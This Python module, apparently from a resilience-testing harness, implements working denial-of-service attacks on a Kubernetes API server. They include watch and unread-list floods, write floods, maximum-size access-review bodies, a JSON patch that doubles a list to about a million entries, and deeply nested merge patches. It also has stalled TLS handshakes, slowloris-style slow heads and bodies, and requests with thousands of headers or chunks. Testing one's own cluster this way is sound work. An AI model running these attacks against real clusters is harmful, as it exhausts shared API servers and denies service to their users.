"""Attacks on the API server by the holder of a token: watches, unread lists, floods of writes."""

from __future__ import annotations

import asyncio
import functools
import itertools
import json
import sys
from collections import Counter
from pathlib import Path

import kube
from attack import manifests
from attack.by_clients import slowly
from attack.manifests import CONFIGS
from attack.target import Outcomes, Target, Wire, outcome, repeat, rest, sending

WATCHES = 600
LISTS = 60


def _request(cluster: kube.Cluster, path: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: {cluster.host}\r\nAuthorization: Bearer {cluster.token}\r\n"
        "Accept: application/json\r\n\r\n"
    ).encode()


async def watches(target: Target) -> Outcomes:
    """A reader opens as many watches as possible, and reads none of them."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            await wire.send(_request(cluster, f"{CONFIGS}?watch=1"))
            status = await wire.status(timeout_s=10)
            if status == "200":
                await rest(target)
            return status
        finally:
            wire.reset()

    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(WATCHES))))


async def unread_lists(target: Target) -> Outcomes:
    """A reader repeatedly requests lists of large objects, and reads none."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            wire.writer.transport.pause_reading()  # type: ignore[attr-defined]
            for _ in range(20):
                await wire.send(_request(cluster, "/api/v1/configmaps"))
                if target.is_over:
                    break
            await rest(target)
            return "held"
        finally:
            wire.reset()

    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(LISTS))))


async def make_large_objects(kubeconfig: str) -> None:
    """Create two hundred objects of 100 KB, for the lists."""
    connection = await kube.Cluster.load(Path(kubeconfig)).connect()
    for number in range(200):
        document = {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": f"large-{number}"},
            "data": {"x": "y" * 100_000},
        }
        await connection.request("POST", CONFIGS, json.dumps(document).encode())
    connection.close()


async def writes(target: Target) -> Outcomes:
    """One user creates objects over 32 connections, as fast as it gets responses."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    numbers = itertools.count()
    outcomes: Outcomes = Counter()

    async def one() -> None:
        connection = await cluster.connect()
        while not target.is_over:
            document = {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": f"flood-{next(numbers)}"},
                "data": {"x": "y" * 1000},
            }
            answer = await connection.request("POST", CONFIGS, json.dumps(document).encode())
            outcomes[str(answer.status)] += 1
        connection.close()

    for came in await asyncio.gather(*(outcome(_told(one())) for _ in range(32))):
        if came != "done":
            outcomes[came] += 1
    return outcomes


async def _told(work: object) -> str:
    await work  # type: ignore[misc]
    return "done"


@functools.cache
def long_reviews() -> list[bytes]:
    """One long text, a long list, and an object with many members."""
    document = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectAccessReview",
        "spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}},
    }
    return [
        json.dumps({**document, "metadata": {"annotations": {"x": "y" * 2_900_000}}}).encode(),
        json.dumps({**document, "more": [[]] * 90_000}).encode(),
        json.dumps({**document, "more": {f"k{number}": number for number in range(90_000)}}).encode(),
    ]


async def reviews(target: Target) -> Outcomes:
    """A reader asks for its permissions, in requests of maximum size, full of values."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))
    bodies = long_reviews()
    outcomes: Outcomes = Counter()

    async def one(turn: int) -> str:
        while not target.is_over:
            connection = await cluster.connect()
            answer = await connection.request("POST", _REVIEWS, bodies[turn % len(bodies)])
            outcomes[str(answer.status)] += 1
            connection.close()
            turn += 1
        return "done"

    for came in await asyncio.gather(*(outcome(one(turn)) for turn in range(8))):
        if came != "done":
            outcomes[came] += 1
    return outcomes


_REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"


async def patches_that_copy(target: Target) -> Outcomes:
    """One user sends JSON patches of a kilobyte that double a list until it has a million empty lists."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    double = {"op": "copy", "from": "/junk", "path": "/junk/-"}
    operations = [{"op": "add", "path": "/junk", "value": [[]] * 100}, *[double] * 13]
    operations += [{"op": "remove", "path": "/junk"}, {"op": "add", "path": "/data", "value": {"x": "y"}}]
    return await _patches(cluster, target, json.dumps(operations).encode(), "application/json-patch+json")


async def deep_merge_patches(target: Target) -> Outcomes:
    """One user sends maximally nested merge patches for a kind without a schema."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    deep = b'{"a":' * 450 + b"1" + b"}" * 450
    body = b'{"spec":{%b"z":null}}' % b"".join(b'"k%d":%b,' % (number, deep) for number in range(5))
    return await _patches(cluster, target, body, manifests.MERGE, f"{_FREE}/patched")


async def strategic_merge_patches(target: Target) -> Outcomes:
    """One user sends strategic merge patches that merge, delete and order hundreds of items by name."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    names = [f"c{number}" for number in range(150)]
    variables = [{"name": f"v{number}", "value": "1"} for number in range(2)]
    containers: list[dict[str, object]] = [
        {"name": name, "image": "i", "env": [*variables, {"$patch": "delete", "name": "none"}]}
        for name in names
    ]
    spec = {"containers": containers, "$setElementOrder/containers": [{"name": name} for name in names[::-1]]}
    body = json.dumps({"spec": {"template": {"spec": spec}}}).encode()
    path = f"{_DEPLOYMENTS}/patched"
    return await _patches(cluster, target, body, "application/strategic-merge-patch+json", path)


_DEPLOYMENTS = "/apis/apps/v1/namespaces/default/deployments"
_DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
_FREE = "/apis/attack.example/v1/namespaces/default/frees"


def _free() -> dict[str, object]:
    """The definition of a kind that allows anything."""
    names = {"kind": "Free", "plural": "frees", "singular": "free"}
    schema = {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}}
    version = {"name": "v1", "served": True, "storage": True, "schema": schema}
    spec = {"group": "attack.example", "names": names, "scope": "Namespaced", "versions": [version]}
    return manifests.named(
        "apiextensions.k8s.io/v1", "CustomResourceDefinition", "frees.attack.example", spec=spec
    )


async def make_patched(kubeconfig: str) -> None:
    """Create the objects to patch."""
    connection = await kube.Cluster.load(Path(kubeconfig)).connect()
    config = manifests.named("v1", "ConfigMap", "patched")
    labels = {"app": "patched"}
    template = {
        "metadata": {"labels": labels},
        "spec": {"containers": [{"name": "c0", "image": "i"}]},
    }
    spec = {"replicas": 0, "selector": {"matchLabels": labels}, "template": template}
    deployment = manifests.named("apps/v1", "Deployment", "patched", spec=spec)
    free = manifests.named("attack.example/v1", "Free", "patched")
    for kind, document in (
        (CONFIGS, config),
        (_DEPLOYMENTS, deployment),
        (_DEFINITIONS, _free()),
        (_FREE, free),
    ):
        for _ in range(50):
            answer = await connection.request("POST", kind, json.dumps(document).encode())
            if answer.status in (201, 409):
                break
            await asyncio.sleep(0.1)  # a new kind is served after a moment
        else:
            raise RuntimeError(f"POST {kind}: {answer.status} {answer.body[:200]!r}")
    connection.close()


async def _patches(
    cluster: kube.Cluster, target: Target, body: bytes, media_type: str, path: str = f"{CONFIGS}/patched"
) -> Outcomes:
    """Patch over eight connections, as fast as the responses arrive."""
    outcomes: Outcomes = Counter()

    async def one() -> str:
        connection = await cluster.connect()
        while not target.is_over:
            answer = await connection.request("PATCH", path, body, media_type)
            outcomes[str(answer.status)] += 1
        connection.close()
        return "done"

    for came in await asyncio.gather(*(outcome(one()) for _ in range(8))):
        if came != "done":
            outcomes[came] += 1
    return outcomes


_LOG = f"{manifests.PODS}/talker/log"
LAST_LINES = f"{_LOG}?tailLines=10"
_LOG_LINES = 100_000
_WRITE_LINES = (
    f"for number in range({_LOG_LINES}): print('%06d' % number, 'x' * 100)\nimport time; time.sleep(3600)"
)


def talker() -> dict[str, object]:
    """A Pod that has logged 11 MB."""
    container = {"name": "talker", "image": "python", "command": [sys.executable, "-uc", _WRITE_LINES]}
    return manifests.named("v1", "Pod", "talker", spec={"containers": [container]})


async def wait_for_logs(kubeconfig: str) -> None:
    connection = await kube.Cluster.load(Path(kubeconfig)).connect()
    for _ in range(100):
        answer = await connection.request("GET", LAST_LINES)
        if b"%06d x" % (_LOG_LINES - 1) in answer.body:
            break
        await asyncio.sleep(0.5)
    else:
        raise RuntimeError(f"the Pod has not written its log: {answer.status} {answer.body[:200]!r}")
    connection.close()


async def log_readers(target: Target) -> Outcomes:
    """A reader repeatedly reads the whole log of a Pod over sixty connections."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            await wire.send(_request(cluster, _LOG))
            status = await wire.status(timeout_s=10)
            while not target.is_over and await asyncio.wait_for(wire.reader.read(1 << 20), 10):
                pass
            return status
        finally:
            wire.reset()

    return await repeat(target, 60, attempt)


async def handshakes(target: Target) -> Outcomes:
    """Connections to the API server that begin TLS and then stop."""
    port = kube.Cluster.load(Path(target.user_kubeconfig)).port

    async def attempt() -> str:
        wire = await Wire.open(port)
        try:
            await wire.send(b"\x16\x03\x01\x02\x00")
            done = asyncio.ensure_future(wire.reader.read(1))
            held = asyncio.ensure_future(rest(target))
            await asyncio.wait((done, held), return_when=asyncio.FIRST_COMPLETED)
            return "closed" if done.done() else "held"
        finally:
            for task in (done, held):
                task.cancel()
            wire.reset()

    return await repeat(target, 300, attempt)


async def slow_heads(target: Target) -> Outcomes:
    """Without a token: three hundred connections, each sending one byte of its head per second."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))
    text = b"GET /version HTTP/1.1\r\nhost: x\r\nx-slow: " + b"x" * 100
    return await slowly(target, cluster.port, 300, text, cluster.context)


async def slow_bodies(target: Target) -> Outcomes:
    """A user announces 300 bodies of 2.9 MB, and sends all but the last kilobyte of each."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    size = 2_900_000
    head = (
        f"POST {CONFIGS} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {cluster.token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n"
    ).encode()
    most = b'{"data":{"x":"' + b"y" * (size - 1000)

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        answered = asyncio.ensure_future(wire.status(timeout_s=3600))
        try:
            async with sending(wire, head, most):
                while not target.is_over and not answered.done():
                    await asyncio.wait((answered,), timeout=1.0)
            return answered.result() if answered.done() else "held"
        finally:
            answered.cancel()
            wire.reset()

    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(300))))


async def tiny_headers(target: Target) -> Outcomes:
    """Without a token: heads of 60 KB with 12,000 headers."""
    head = b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a:b\r\n" * 12_000 + b"\r\n"
    return await _strangers(target, head)


async def tiny_chunks(target: Target) -> Outcomes:
    """Without a token: bodies of 20,000 one-byte chunks."""
    head = b"POST /api/v1/namespaces HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
    return await _strangers(target, head + b"1\r\nx\r\n" * 20_000 + b"0\r\n\r\n")


async def _strangers(target: Target, request: bytes) -> Outcomes:
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            async with sending(wire, request):
                return await wire.status(timeout_s=10)
        finally:
            wire.reset()

    return await repeat(target, 16, attempt)
